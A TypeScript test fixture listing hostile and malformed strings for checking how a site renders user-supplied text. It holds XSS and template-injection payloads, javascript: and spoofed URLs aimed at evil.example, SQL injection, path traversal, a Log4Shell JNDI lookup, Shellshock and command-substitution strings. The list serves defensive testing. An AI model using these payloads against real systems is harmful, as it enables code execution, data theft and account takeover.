/**
 * Strings that have broken pages, templates, address bars and readers' eyes before: what stands in the data for hostile or careless authors.
 */

// Each calls something that the test page counts.
const MARKUP = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<iframe src="javascript:alert(1)"></iframe>', '<body onload=alert(1)>', '<details open ontoggle=alert(1)>x</details>', '<video><source onerror=alert(1)></video>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<a href="javascript:alert(1)">x</a>',
  '<input autofocus onfocus=alert(1)>', '<style>@import "/pwned.css"; * { color: red }</style>', '<link rel=stylesheet href=/pwned.css>', '<base href="https://evil.example/">', '<meta http-equiv=refresh content="0;url=/pwned">', '<object data="/pwned"></object>', '<embed src="/pwned">', '<form action="/pwned"><button>x</button></form>', '<template><img src=x onerror=alert(1)></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '"><img src=x onerror=alert(1)>', "'><svg/onload=alert(1)>", '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)", '`onerror=alert(1)`', '</title><script>alert(1)</script>', '</style><script>alert(1)</script>', '</script><script>alert(1)</script>', '--><img src=x onerror=alert(1)>', ']]><img src=x onerror=alert(1)>',
  '<![CDATA[<script>alert(1)</script>]]>', '<!--<img src="--><img src=x onerror=alert(1)//">', '<<script>alert(1)//<</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<SCRIPT SRC=/pwned.js></SCRIPT>', '<img/src="x"/onerror=alert(1)>', '<img src=x onerror=&#97;lert(1)>', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E', '<xmp><img src=x onerror=alert(1)></xmp>', '<plaintext>', '<isindex type=image src=x onerror=alert(1)>', '<marquee onstart=alert(1)>x</marquee>', '<audio src=/pwned autoplay>', '<picture><img srcset="/pwned 1x"></picture>', '<button popovertarget=x>y</button>', '<slot name=x></slot>', '<ml-da-event src="/pwned.json"></ml-da-event>',
];

const TEMPLATES = [
  '${alert(1)}', '#{alert(1)}', '{{constructor.constructor("alert(1)")()}}', '{{7*7}}', '<%= alert(1) %>', '[[${alert(1)}]]', '@{alert(1)}', '{% raw %}', '?lit$123456789$', '<!--?lit$123456789$-->', '$lit$', '-lit-', '{{lit-0}}', '<?lit$1$><img src=x onerror=alert(1)>',
  '{0}', '{1}', '{0}{1}{2}', '{value}', '{start}', '$&', '$1', "$'", '$`', '$$', '$0', '%s', '%d%n', '%00', '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', 'then', 'length', 'undefined', 'null', 'NaN', 'Infinity', '[object Object]', 'true', '0', '-0', '1e999',
];

const ADDRESSES = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\nscript:alert(1)', 'java\tscript:alert(1)', '\u0001javascript:alert(1)', 'javascript\u00a0:alert(1)', 'javascript&colon;alert(1)', 'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>', 'javascript://example.org/%0aalert(1)', 'javascript:void(0)',
  'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=alert(1)>', 'DATA:text/html,x', 'vbscript:msgbox(1)', 'file:///etc/passwd', 'filesystem:https://example.org/x', 'blob:https://example.org/1', 'about:blank', 'view-source:https://example.org', 'chrome://settings', 'intent://x#Intent;end', 'ftp://example.org/', 'tel:+4912345', 'sms:+49', 'ws://example.org/', 'webcal://example.org/a.ics', 'mailto:a@example.org?bcc=b@evil.example', 'mailto:a@example.org?subject=x%0d%0aBcc:b@evil.example',
  '//evil.example/', '\\\\evil.example\\', '/\\evil.example', 'https:evil.example', 'https:///evil.example', 'https://user:password@evil.example/', 'https://example.org@evil.example/', 'https://example.org%2f@evil.example/', 'https://example.org#@evil.example/', 'https://evil.example\\@example.org', 'http://0x7f000001/', 'http://2130706433/', 'http://[::1]/', 'https://例え.jp/', 'https://xn--r8jz45g.jp/', 'https://раypal.com/login', 'https://example.org/\u202Egpj.exe', 'https://example.org/?q="><script>alert(1)</script>', "https://example.org/'onmouseover='alert(1)", 'https://example.org/a b', 'https://', 'http:', '#', '?', '/', '.', 'https://example.org:99999/', 'https://exa mple.org/', 'https://example.org/\u0000', 'x:y',
];

const MARKDOWN = [
  '[x](javascript:alert(1))', '[x](JAVASCRIPT:alert(1))', '[x](  javascript:alert(1))', '[x](data:text/html,<script>alert(1)</script>)', '[x](<javascript:alert(1)>)', '[x](java\nscript:alert(1))', '[x]: javascript:alert(1)', '[x][y]', '![x](/pwned.png)', '![x](https://evil.example/pwned.png)', '<javascript:alert(1)>', '<https://example.org>', '[x](https://example.org "title" onmouseover=alert(1))', '[<img src=x onerror=alert(1)>](https://example.org)', '[https://example.org](https://evil.example)', '[a](https://example.org)[b](javascript:alert(1))',
  '[', '](', '[](', '[]()', '[x](', '[x](https://example.org', '[[x](https://example.org)](https://evil.example)', '`<script>alert(1)</script>`', '```\n<script>alert(1)</script>\n```', '~~~html\n<img src=x onerror=alert(1)>\n~~~', '$<script>alert(1)</script>$', '$x < y$ and $z > 1$', '$$\\href{javascript:alert(1)}{x}$$', '\\(\\unicode{<img src=x onerror=alert(1)>}\\)', '*<b>x</b>*', '**x', '***x**', '_ _ _', '* * *', '- - -', '# Heading', '> quote', '1. one\n2. two', '-\n-', '| a | b |', '\\*x\\*', '&copy; &#169;', 'a  \nb', 'a\\\nb',
];

const LETTERS = [
  '\u202Eevil\u202C', '\u2066abc\u2069', '\u2067abc', 'abc\u2069\u2069\u202C', 'שלום abc', 'مرحبا 123', '\u200F12:00', 'a\u200Bb', 'a\u200Cb\u200Dc', '\uFEFFa', 'a\u00ADb', 'раypal (Cyrillic)', 'Ａｄｍｉｎ', 'ℌ𝔢𝔩𝔩𝔬', 'Z̸̡̛͖̦̱͖̈́̂̅a̶͉̓l̷̰̔g̸̰̀o̷͔͝', 'e\u0301 é', 'ﬁ ﬂ', 'İstanbul ISTANBUL ıi', 'ß ẞ SS', '日本語 の テキスト', '中文標題', '한국어', 'ไทย', 'हिन्दी', '🧑‍🔬👩🏽‍🚀🏳️‍🌈', '\uD800', '\uDC00x', 'x\uD83D', '\u0000', 'a\u0000b', '\u0007\u001B[31m', '\u2028line\u2029', 'a\r\nb', 'a\tb', '  two  spaces  ', '\u00a0', 'a\u3000b', '\u{10FFFF}', '\uFFFD', '\uFFFE',
  'BEGIN:VCALENDAR', 'x\r\nATTENDEE:mailto:b@evil.example', 'SUMMARY:x\\n;,:', '=HYPERLINK("https://evil.example")', '=1+1', '+1', '-1', '@SUM(A1)', "'; DROP TABLE talks; --", "1' OR '1'='1", '../../etc/passwd', '..\\..\\windows', '${jndi:ldap://evil.example/a}', '() { :; }; echo x', '|| sleep 9', '`id`', '$(id)', 'x'.repeat(5_000), `${'long'.repeat(500)} ${'word '.repeat(500)}`, '\u0301'.repeat(2_000), '('.repeat(3_000), '*'.repeat(3_000), '['.repeat(3_000), '`'.repeat(3_000), '$'.repeat(3_000), '\n'.repeat(3_000) + 'x', '<'.repeat(3_000), 'p<0.05 and x>3', 'A & B', '"quoted"', 'O’Brien', "it's", '50 %', 'C#', 'a/b', '~', '^', '\\',
];

// The same in other clothes: text before and behind, an attribute's end, a link's text.
const DRESSED = MARKUP.slice(0, 36).map((text, index) => [`Talk ${text} end`, `" ${text}`, `[${text}](https://example.org/)`][index % 3] ?? text);

/** All of them, each once. */
export const STRINGS: readonly string[] = [...new Set([...MARKUP, ...TEMPLATES, ...ADDRESSES, ...MARKDOWN, ...LETTERS, ...DRESSED])];
